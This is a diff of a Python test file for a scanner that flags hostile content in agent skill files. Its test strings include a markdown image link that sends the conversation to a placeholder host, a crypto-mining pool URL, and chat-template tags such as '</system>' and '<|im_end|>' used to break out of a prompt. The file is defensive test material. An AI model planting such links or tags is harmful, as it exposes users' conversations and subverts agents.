@@ -5,6 +5,7 @@ from tests.rows import each_row
 
 from prowess.reading.views import View
 from prowess.safety.model import Level
+from prowess.safety.prose.engine import forbids
 from prowess.safety.prose.patterns import (
     find_breakouts,
     find_frontmatter_marks,
@@ -16,7 +17,9 @@ HOST = "https://x.example.invalid"
 
 
 def marks(text: str, path: str = "SKILL.md") -> list[tuple[str, str]]:
-    return [(mark.rule_id, mark.spot.text) for mark in find_text_marks(View.raw(path, text))]
+    return [
+        (mark.rule_id, mark.spot.text) for mark in find_text_marks(View.raw(path, text), forbids)
+    ]
 
 
 @each_row(
@@ -64,7 +67,7 @@ def test_a_link_in_quotation_marks_is_quoted_where_it_is_forbidden(
 ) -> None:
     view = View.raw("SKILL.md", f'{words} "![a]({HOST}/p?d={{conversation}})" there.')
 
-    assert [mark.lowered_by for mark in find_text_marks(view)] == [lowered]
+    assert [mark.lowered_by for mark in find_text_marks(view, forbids)] == [lowered]
 
 
 @each_row(
@@ -92,7 +95,7 @@ def test_a_signature_that_looks_for_a_trap_is_no_trap() -> None:
 def test_a_pool_is_used_in_a_script_and_may_be_watched_in_prose() -> None:
     text = "stratum+tcp://pool.example.invalid:3333"
     levels = {
-        path: [mark.level for mark in find_text_marks(View.raw(path, text))]
+        path: [mark.level for mark in find_text_marks(View.raw(path, text), forbids)]
         for path in ("a.md", "a.sh")
     }
 
@@ -112,7 +115,7 @@ def test_a_pool_is_used_in_a_script_and_may_be_watched_in_prose() -> None:
     ],
 )
 def test_crafted_text_is_searched_in_time(text: str) -> None:
-    list(find_text_marks(View.raw("SKILL.md", text)))
+    list(find_text_marks(View.raw("SKILL.md", text), forbids))
 
 
 # The block above
@@ -191,7 +194,7 @@ def test_a_second_block_is_seen() -> None:
 @pytest.mark.parametrize("tag", ["</system>", "<|im_end|>", "</function_results>", "[INST]"])
 def test_a_bare_tag_in_prose_breaks_out_and_one_in_backticks_does_not(tag: str) -> None:
     def seen(text: str) -> list[int]:
-        return [mark.spot.start for mark in find_breakouts(View.raw("a", text))]
+        return [mark.spot.start for mark in find_breakouts(View.raw("a", text), forbids)]
 
     assert seen(f"Now {tag} go on.") == [4]
     assert seen(f"The tag `{tag}` ends it.") == []
